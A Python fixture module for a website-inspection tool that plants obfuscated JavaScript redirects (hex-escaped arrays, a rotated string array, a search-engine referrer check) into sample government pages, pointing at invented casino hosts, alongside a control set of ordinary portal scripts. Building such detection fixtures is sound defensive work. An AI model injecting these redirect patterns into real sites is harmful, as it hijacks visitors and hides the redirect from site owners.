"""Obfuscated script redirects (security.hijack js_redirect) and a control page of ordinary scripts.

The forms follow what defacement write-ups and obfuscators produce: a string array of
``\\x`` escapes read by index into ``window[...][...]`` and fired from ``setTimeout``
(readable statically), the javascript-obfuscator pattern of a rotated string array read
through an accessor function (only the sandbox reads it; the tool's README documents the
"stringArray", "rotateStringArray" and hexadecimal-name options), and a redirect shown only
to visitors coming from Baidu, its target built by ``String.fromCharCode.apply`` (sandbox,
``referrer_check``). Every script here is written for the fixture world; the casino hosts
are made up. The control article carries the scripts real portals add to every page (menus,
tabs, a date line, a search button, a back button, a statistics loader, a JSONP helper,
menu labels as ``\\u`` escapes) and must give no finding.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import ClassVar

from govinspect.demo.defects import PathScheme
from govinspect.demo.plan import SitePlan
from govinspect.demo.types import HijackMark

ARRAY_TARGET = "http://www.yh-yule588.com/"
ROTATED_TARGET = "http://www.ag-zhenren66.vip/"
REFERRER_TARGET = "http://www.xpj-tiyu77.com/"
SCRIPT_HOSTS = frozenset({"www.yh-yule588.com", "www.ag-zhenren66.vip", "www.xpj-tiyu77.com"})


def _hex(value: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in value)


def _uni(value: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in value)


def array_redirect(rng: random.Random, target: str) -> str:
    """``var _0x..=['\\x74\\x6f\\x70',...]; setTimeout(function(){window[a[0]][a[1]][a[2]]=a[3]}, n)``."""
    name = f"_0x{rng.randrange(0x1000, 0xFFFF):04x}"
    words = ["top", "location", "href", target]
    return (f"var {name}=[" + ",".join(f"'{_hex(w)}'" for w in words) + "];"
            f"setTimeout(function(){{window[{name}[0]][{name}[1]][{name}[2]]={name}[3];}},{rng.randint(5, 30) * 100});")  # fmt: skip


def rotated_redirect(rng: random.Random, target: str) -> str:
    """A string array stored rotated, turned back at run time and read through an accessor."""
    store, turn, read = (f"_0x{rng.randrange(0x1000, 0xFFFF):04x}" for _ in range(3))
    words = ["location", "href", target, "top"]
    shift = rng.randint(1, 3)
    stored = words[shift:] + words[:shift]  # turning it len - shift times puts it back
    turns = len(words) - shift
    return (
        f"var {store}=[" + ",".join(f"'{_hex(w)}'" for w in stored) + "];"
        f"(function(a,n){{var f=function(c){{while(--c){{a['push'](a['shift']());}}}};f(++n);}}({store},{turns:#x}));"
        f"var {read}=function(i){{i=i-0x0;return {store}[i];}};"
        f"var {turn}=window[{read}('0x3')];{turn}[{read}('0x0')][{read}('0x1')]={read}('0x2');"
    )


def referrer_redirect(target: str) -> str:
    """A redirect only for visitors whose Referer is a search engine, its URL built from char codes."""
    codes = ",".join(str(ord(c)) for c in target)
    return (
        "(function(){var r=document.referrer||'',e=['baidu','sogou','so.com','sm.cn'],c=[" + codes + "];"
        "for(var i=0;i<e.length;i++){if(r.indexOf(e[i])>-1){"
        "window[String.fromCharCode(108,111,99,97,116,105,111,110)]=String.fromCharCode.apply(null,c);return;}}})();"
    )


@dataclass(frozen=True, slots=True)
class ObfuscatedRedirects:
    """Three articles of ``column``, each with an injected redirect in one obfuscated form."""

    column: str = "工作动态"
    phase: ClassVar[str] = "links"

    def apply(self, plan: SitePlan, rng: random.Random, paths: PathScheme) -> None:
        items = rng.sample(plan.untouched(self.column), 3)
        codes = (array_redirect(rng, ARRAY_TARGET), rotated_redirect(rng, ROTATED_TARGET), referrer_redirect(REFERRER_TARGET))
        for item, code in zip(items, codes, strict=True):
            plan.patches.setdefault(item.path, []).append(f'\n<script type="text/javascript">{code}</script>\n')
            plan.planted.hijack.append(HijackMark(item.path, "js_redirect"))


# Ordinary scripts of a government article page, written for the fixture world.
MENU_LABELS = ("首页", "机构概况", "政务公开", "政务服务", "互动交流", "专题专栏", "通知公告", "政策文件", "政策解读")
ORDINARY_SCRIPTS = (
    "function showSub(n){for(var i=1;i<=6;i++){var el=document.getElementById('sub'+i);if(el){el.style.display=(i==n)?'block':'none';}}}",
    "$(function(){$('.tab-title li').mouseover(function(){var i=$(this).index();$(this).addClass('cur').siblings().removeClass('cur');"
    "$('.tab-body .panel').eq(i).show().siblings().hide();});});",
    "var now=new Date(),wk=['日','一','二','三','四','五','六'];"
    "document.write('今天是'+now.getFullYear()+'年'+(now.getMonth()+1)+'月'+now.getDate()+'日 星期'+wk[now.getDay()]);",
    "function siteSearch(){var kw=document.getElementById('kw').value.replace(/^\\s+|\\s+$/g,'');if(kw==''){alert('请输入检索词');return false;}"
    "window.location.href='/search/index.jsp?q='+encodeURIComponent(kw);return false;}",
    "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?4c1d0e5a7b2f9d3e';"
    "var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(hm,s);})();",
    "function loadJsonp(url,done){var cb='jsonp'+new Date().getTime();window[cb]=function(d){done(d);try{delete window[cb];}catch(e){}};"
    "var s=document.createElement('script');s.src=url+(url.indexOf('?')<0?'?':'&')+'callback='+cb;document.getElementsByTagName('head')[0].appendChild(s);}",
    "var menuLabels=[" + ",".join(f"'{_uni(w)}'" for w in MENU_LABELS) + "];",
    "function fontZoom(size){var box=document.getElementById('zoom');if(box){box.style.fontSize=size+'px';}}",
)  # fmt: skip
ORDINARY_MARKUP = (
    '<div class="tools"><input id="kw" type="text"><a href="javascript:void(0)" onclick="return siteSearch()">检索</a>'
    '<a href="javascript:void(0)" onclick="fontZoom(16)">大</a><a href="javascript:void(0)" onclick="fontZoom(14)">中</a>'
    "<a href=\"javascript:void(0)\" onclick=\"location.href='/'\">返回首页</a>"
    '<a href="javascript:void(0)" onclick="window.history.back()">返回</a></div>'
)


@dataclass(frozen=True, slots=True)
class OrdinaryScripts:
    """A control, not a defect: articles carrying the heavy ordinary scripts of real portals."""

    column: str = "工作动态"
    articles: int = 2
    phase: ClassVar[str] = "links"

    def apply(self, plan: SitePlan, rng: random.Random, paths: PathScheme) -> None:
        scripts = "".join(f'<script type="text/javascript">{code}</script>\n' for code in ORDINARY_SCRIPTS)
        for item in rng.sample(plan.untouched(self.column), self.articles):
            plan.patches.setdefault(item.path, []).append(f"\n{ORDINARY_MARKUP}\n{scripts}")
